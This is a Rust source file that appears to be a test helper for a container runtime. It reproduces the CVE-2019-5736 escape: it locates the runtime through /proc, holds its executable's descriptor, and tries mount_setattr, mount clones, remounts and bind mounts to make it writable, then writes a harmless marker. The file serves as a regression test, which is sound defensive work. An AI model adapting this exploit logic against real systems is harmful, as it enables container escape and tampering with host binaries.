//! The hostile program of CVE-2019-5736's test: it waits until the runtime shows in its pid namespace, keeps a descriptor of the
//! runtime's program and tries everything that could make that writable. What comes of it is said to the fifo /talk/fifo.
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::{AsFd, AsRawFd};
use std::path::Path;
use std::process::ExitCode;
use std::time::{Duration, Instant};

use croft_sys::mount::{self, Attributes, Depth};
use rustix::mount::{MountFlags, mount_bind, mount_remount};

/// `MOUNT_ATTR_RDONLY` of mount_setattr(2).
const RDONLY: u64 = 1;

/// Looks for the runtime, twice: as it waits at its gate, and as the interpreter of `#!/proc/self/exe`.
pub fn runtime() -> ExitCode {
    let mut held = Vec::new();
    for name in ["gate", "evil"] {
        wait_for(&format!("/talk/{name}"));
        let end = Instant::now() + Duration::from_secs(10);
        let mut found = None;
        while found.is_none() && Instant::now() < end {
            found = others().find_map(|dir| {
                File::open(format!("{dir}/exe")).ok().filter(|_| name == "gate" || is_evil(&dir))
            });
            if name == "gate" && Instant::now() + Duration::from_secs(9) > end {
                break;
            }
        }
        match found {
            Some(exe) => {
                attempts(&exe);
                held.push(exe);
                say(&format!("held at {name}"));
            }
            None => say(&format!("not held at {name}")),
        }
    }
    wait_for("/talk/again");
    // The program is not run by anybody now, and may be opened for writing unless its mount forbids it.
    let end = Instant::now() + Duration::from_secs(3);
    while Instant::now() < end {
        held.iter().for_each(attempts);
    }
    say("done");
    ExitCode::SUCCESS
}

fn others() -> impl Iterator<Item = String> {
    let own = std::process::id().to_string();
    let names = fs::read_dir("/proc").into_iter().flatten().flatten();
    let names = names.map(|e| e.file_name().to_string_lossy().into_owned());
    names
        .filter(move |n| n.bytes().all(|b| b.is_ascii_digit()) && *n != own && n != "1")
        .map(|n| format!("/proc/{n}"))
}

fn is_evil(dir: &str) -> bool {
    fs::read_to_string(format!("{dir}/cmdline")).is_ok_and(|line| line.contains("/evil\0run"))
}

fn wait_for(path: &str) {
    while !Path::new(path).exists() {
        std::thread::sleep(Duration::from_millis(5));
    }
}

fn say(line: &str) {
    if let Ok(mut fifo) = OpenOptions::new().write(true).open("/talk/fifo") {
        let _ = fifo.write_all(format!("{line}\n").as_bytes());
    }
}

/// Everything that could make the file writable; each success is told.
fn attempts(exe: &File) {
    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    overwrite("as it is", &path);
    let writable = Attributes { clear: RDONLY, ..Attributes::default() };
    if mount::set_attributes(exe.as_fd(), Depth::One, writable).is_ok() {
        say("changed its mount by mount_setattr");
        overwrite("after mount_setattr", &path);
    }
    if let Ok(clone) = mount::open_tree(exe.as_fd(), Path::new(""), Depth::One) {
        let _ = mount::set_attributes(clone.as_fd(), Depth::One, writable);
        overwrite("by a clone of its mount", &format!("/proc/self/fd/{}", clone.as_raw_fd()));
    }
    if mount_remount(&path, MountFlags::BIND, "").is_ok() {
        overwrite("after a remount", &path);
    }
    let place = "/talk/place";
    if File::create(place).is_ok() && mount_bind(&path, place).is_ok() {
        let _ = mount_remount(place, MountFlags::BIND, "");
        overwrite("by a bind of it", place);
        let _ = rustix::mount::unmount(place, rustix::mount::UnmountFlags::DETACH);
    }
}

fn overwrite(how: &str, path: &str) {
    let opened = OpenOptions::new().append(true).open(path);
    let written = opened.and_then(|mut file| file.write_all(b"overwritten"));
    if written.is_ok() {
        say(&format!("overwritten {how}"));
    }
}
